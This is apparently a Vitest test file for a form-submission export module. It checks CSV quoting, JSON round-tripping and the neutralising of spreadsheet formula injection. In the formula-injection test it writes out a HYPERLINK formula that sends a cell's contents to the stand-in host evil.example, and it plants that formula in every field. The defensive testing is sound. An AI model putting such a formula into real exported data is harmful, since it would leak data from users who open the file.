import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp } from '@tests/support/test-app';
import type { TestApp } from '@tests/support/test-app';
import { collectSubmissions, formatRows } from './export-submissions';
import { insertJobForm } from './fixtures';

describe('submission export', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ seed: false });
    await insertJobForm(t.db);
    await t.db
      .insertInto('contact_messages')
      .values({
        first_name: 'Ali, "the" pilot',
        last_name: 'Karimi',
        email: 'a@example.com',
        phone_number: '09120000000',
        message: 'line one\nline two',
        lang: 'en',
        created_at: '2026-03-01T10:00:00.000Z',
      })
      .execute();
    await t.db
      .insertInto('form_submissions')
      .values({
        custom_form_id: 3,
        submitted_data: JSON.stringify({ full_name: 'سارا' }),
        file_path: 'abc.pdf',
        file_name: 'cv.pdf',
        file_size: 1234,
        lang: 'fa',
        created_at: '2026-03-02T10:00:00.000Z',
      })
      .execute();
  });
  afterAll(() => t.close());

  it('collects messages and submissions with absolute file paths and form titles', async () => {
    const collected = await collectSubmissions(t.db, '/srv/uploads');
    expect(collected['contact-messages']).toHaveLength(1);
    expect(collected['form-submissions'][0]).toMatchObject({
      file_path: '/srv/uploads/abc.pdf',
      file_name: 'cv.pdf',
      form_title: 'مهماندار پرواز',
      submitted_data: { full_name: 'سارا' },
      lang: 'fa',
    });
  });

  it('writes CSV that quotes commas, quotes and new lines, and JSON that parses back', async () => {
    const collected = await collectSubmissions(t.db, '/srv/uploads');
    const csv = formatRows(collected['contact-messages'], 'csv');
    expect(csv.split('\n')[0]).toContain('first_name');
    expect(csv).toContain('"Ali, ""the"" pilot"');
    expect(csv).toContain('"line one\nline two"');
    expect(JSON.parse(formatRows(collected['form-submissions'], 'json'))[0].file_size).toBe(1234);
  });

  it('writes every text cell that starts like a formula as text, in every column', async () => {
    const starts = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
    for (const [i, start] of starts.entries()) {
      const formula = `${start}HYPERLINK("http://evil.example?x="&A1,"open")`;
      await t.db
        .insertInto('contact_messages')
        .values({
          first_name: formula,
          last_name: formula,
          email: formula,
          phone_number: formula,
          message: formula,
          lang: 'en',
          created_at: `2026-03-03T10:00:0${i}.000Z`,
        })
        .execute();
      await t.db
        .insertInto('form_submissions')
        .values({
          custom_form_id: 3,
          submitted_data: JSON.stringify({ full_name: formula }),
          file_path: `evil-${i}.pdf`,
          file_name: formula,
          file_size: 1,
          lang: 'en',
          created_at: `2026-03-03T10:00:0${i}.000Z`,
        })
        .execute();
    }
    const collected = await collectSubmissions(t.db, '/srv/uploads');
    for (const rows of Object.values(collected)) {
      const records = parse(formatRows(rows, 'csv'), { columns: true }) as Record<string, string>[];
      expect(records.length).toBeGreaterThan(starts.length);
      for (const record of records) {
        for (const cell of Object.values(record))
          expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      }
      const names = records.map((record) => record.first_name ?? record.file_name);
      expect(names).toContain(`'=HYPERLINK("http://evil.example?x="&A1,"open")`);
      expect(names).toContain(`'\tHYPERLINK("http://evil.example?x="&A1,"open")`);
    }
    // JSON keeps what was sent.
    expect(formatRows(collected['contact-messages'], 'json')).toContain('"=HYPERLINK');
  });
});
